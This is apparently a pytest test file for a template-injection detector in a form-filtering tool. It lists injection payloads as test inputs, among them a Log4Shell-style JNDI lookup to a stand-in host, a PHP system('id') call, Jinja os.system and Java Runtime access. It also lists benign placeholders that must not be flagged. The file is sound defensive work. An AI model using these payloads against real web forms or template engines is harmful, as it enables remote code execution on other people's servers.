import pytest

from postwarden.model.attempt import Role
from postwarden.rules.template_injection import find
from tests.rules._post import field, hit, post, quiet

ATTACKS = [
    "{{var this.getTemplateFilter().filter(dummy)}}",
    "{{7*7}}",
    "{{ self.__init__ }}",
    "{{config.items()}}",
    "{{config}}",
    "{{'a'|upper}}",
    "${jndi:ldap://x.example/a}",
    "${T(java.lang.Runtime).getRuntime()}",
    "{php}echo 1;{/php}",
    "<?php system('id'); ?>",
    "<%= 7 * 7 %>",
    "#{self.class}",
    "{% import os %}{{ os.system(1) }}",
]


@pytest.mark.parametrize("value", ATTACKS)
@pytest.mark.parametrize("role", [Role.NAME, Role.SUBJECT, Role.EMAIL])
def test_code_in_a_line_is_found(value: str, role: Role) -> None:
    found = hit(find, post(field(f"Max {value}", role)))
    assert found is not None
    assert found.facts["role"] == role.value


@pytest.mark.parametrize(
    "value",
    [
        "{{name}}",
        "{{this is a test}}",
        "{{(Firma)}}",
        "{{Hans, (privat)}}",
        "{{ vorname }}",
        "{Firma}",
        "${name}",
        "a < b",
        "{x|y}",
        "Kosten: 3 $ {netto}",
        "<Max>",
        "{{",
        "=}",
    ],
)
def test_placeholders_and_signs_are_not(value: str) -> None:
    assert hit(find, post(field(value, Role.SUBJECT))) is None


def test_messages_are_another_rule_s_and_honest_posts_are_left_alone() -> None:
    assert hit(find, post(field("{{7*7}}", Role.MESSAGE))) is None
    assert quiet(find) == []
